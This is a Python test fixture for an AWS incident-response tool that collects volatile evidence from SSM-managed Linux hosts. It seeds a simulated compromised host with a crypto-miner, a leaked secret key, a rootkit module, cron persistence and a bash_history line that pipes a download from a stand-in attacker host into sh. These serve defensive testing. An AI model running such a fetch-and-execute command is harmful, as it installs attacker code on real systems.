"""Hosts with an agent of SSM, and what collects volatile evidence from them, against the stand-in."""

from __future__ import annotations

import hashlib
import itertools
import json
import os
import time
from pathlib import Path
from typing import Any, Dict, List, Optional

from aws_bridge.accounts.area import Area
from lab import avml
from response.actions.collect_volatile import Tools, VolatileCollection
from response.aws.evidence import EvidenceStore, folder_of
from response.aws.handover import Handover, Tool
from response.aws.uploads import Uploads
from response.core.result import ActionResult
from response.core.target import Target
from response.errors import StillRunning
from response.plans.document import linux
from tests.response.server_room import REGION, ServerRoom

DOCUMENT = "siem-bridge-volatile-linux"
KEY = "avml/0.20.0/avml-x86_64"
_numbers = itertools.count(1)
#: What the host's root holds: path -> content.
FILES: Dict[str, str] = {
    "proc/meminfo": "MemTotal:         507904 kB\nMemFree: 1 kB\n",
    "proc/uptime": "4711.00 1.00\n",
    "proc/sys/kernel/random/boot_id": "5e1ec7ed-0000-4000-8000-000000000001\n",
    "proc/sys/kernel/tainted": "0\n",
    "proc/modules": "rootkit 16384 0 - Live 0x0000000000000000 (OE)\n",
    "proc/version": "Linux version 6.1.0 (gcc) #1 SMP\n",
    "proc/cmdline": "BOOT_IMAGE=/boot/vmlinuz root=/dev/nvme0n1p1\n",
    "proc/cpuinfo": "flags\t\t: fpu vme la57 pku\n",
    "proc/self/mountinfo": "21 1 259:1 / / rw - xfs /dev/root rw\n",
    "proc/4242/status": "Name:\txmrig\nState:\tS (sleeping)\nPPid:\t1\nUid:\t0\t0\t0\t0\nTracerPid:\t0\n",
    "proc/4242/cmdline": "/tmp/.x/xmrig\0-o\0pool.evil.example:443\0",
    "proc/4242/environ": "AWS_SECRET_ACCESS_KEY=very-secret\0LD_PRELOAD=/tmp/.x/lib.so\0",
    "etc/os-release": 'NAME="Amazon Linux"\n',
    "etc/crontab": "* * * * * root /tmp/.x/run\n",
    "root/.bash_history": "curl http://evil.example/x | sh\n",
    "home/ec2-user/.bash_history": "sudo -i\n",
    "boot/System.map-6.1.0": "ffffffff81000000 T _text\n",
}
LINKS = {"proc/4242/exe": "/tmp/.x/xmrig (deleted)", "proc/4242/cwd": "/tmp", "proc/4242/fd/3": "/tmp/a (deleted)"}


class Bench:
    """Buckets, document and clock of collections in one room."""

    def __init__(self, room: ServerRoom) -> None:
        self.room = room
        self.jobs, self.tools = (f"{name}-{room.account.id}" for name in ("jobs", "tools"))
        self.s3 = room.account.client("s3", REGION)
        for name in (self.jobs, self.tools):
            self.s3.create_bucket(Bucket=name, CreateBucketConfiguration={"LocationConstraint": REGION})
        self.s3.put_object(Bucket=self.tools, Key=KEY, Body=avml.tool())
        self.tool = Tool(KEY, hashlib.sha256(avml.tool()).hexdigest(), "0.20.0")
        content = json.dumps(linux()["document"])
        ssm = room.account.client("ssm", REGION)
        ssm.create_document(Content=content, Name=DOCUMENT, DocumentType="Command", DocumentFormat="JSON")
        self.image = room.linux()
        #: A folder of this machine for capture tools that tests make.
        self.root_of_tools = room.account.managed(REGION, "i-00000000")
        self.later_s = 0.0

    def clock(self) -> float:
        return time.time() + self.later_s

    def host(self, files: Optional[Dict[str, str]] = None, **how: Any) -> Target:
        """Start an instance with an agent, whose root holds `FILES`."""
        target = self.room.server(InstanceType="t3.nano", ImageId=self.image)
        root = Path(self.room.account.managed(REGION, target.instance, **how))
        for path, text in {**FILES, **(files or {})}.items():
            (root / path).parent.mkdir(parents=True, exist_ok=True)
            (root / path).write_text(text)
        for path, to in LINKS.items():
            (root / path).parent.mkdir(parents=True, exist_ok=True)
            os.symlink(to, root / path)
        return target

    def root(self, target: Target) -> Path:
        return Path(self.room.account.managed(REGION, target.instance))

    def folder(self, target: Target, incident: str) -> str:
        return folder_of(target.account, REGION, target.instance, incident)

    def collection(self, target: Target, incident: str, **changed: Any) -> VolatileCollection:
        area: Area = self.room.area
        store = EvidenceStore(area, self.room.locked_bucket(), self.folder(target, incident))
        known: Dict[str, Any] = {
            "area": area, "store": store, "uploads": Uploads(area, store),
            "handover": Handover(area, self.jobs, area, self.tools), "tools": Tools({"x86_64": self.tool}),
            "document": DOCUMENT, "clock": self.clock, **changed,
        }  # fmt: skip
        return VolatileCollection(**known)

    def collect(
        self, target: Target, incident: str = "", how: Optional[Dict[str, Any]] = None, **changed: Any
    ) -> ActionResult:
        """Call the step until it ends, as the workflow does."""
        incident = incident or self.incident(target)
        end = time.monotonic() + 240
        while time.monotonic() < end:
            try:
                return self.collection(target, incident, **changed).collect(target, incident, **(how or {}))
            except StillRunning:
                time.sleep(0.1)
        raise AssertionError(f"it does not end: {self.room.account.commands(REGION)[-1]}")

    def wait(self, until: Any) -> None:
        """Wait until something holds."""
        end = time.monotonic() + 240
        while not until():
            assert time.monotonic() < end, "it never came"
            time.sleep(0.1)

    def incident(self, target: Target) -> str:
        return f"{target.instance}-{next(_numbers)}"

    def kept(self, target: Target, incident: str) -> Dict[str, bytes]:
        """Return name -> content of what the bucket holds of the step; each was written once."""
        start = self.folder(target, incident) + "collect_volatile/"
        bucket = self.room.locked_bucket()
        keys = [each["Key"] for each in self.s3.list_object_versions(Bucket=bucket, Prefix=start).get("Versions", ())]
        assert len(keys) == len(set(keys)), "an object was written over"
        return {key[len(start) :]: self.s3.get_object(Bucket=bucket, Key=key)["Body"].read() for key in keys}

    def open_uploads(self, target: Target) -> List[str]:
        """Return the uploads of an instance that were neither sealed nor dropped."""
        found = self.s3.list_multipart_uploads(Bucket=self.room.locked_bucket()).get("Uploads", ())
        return [each["Key"] for each in found if target.instance in each["Key"]]

    def commands(self, target: Target) -> List[Dict[str, Any]]:
        return [each for each in self.room.account.commands(REGION) if target.instance in each["instances"]]
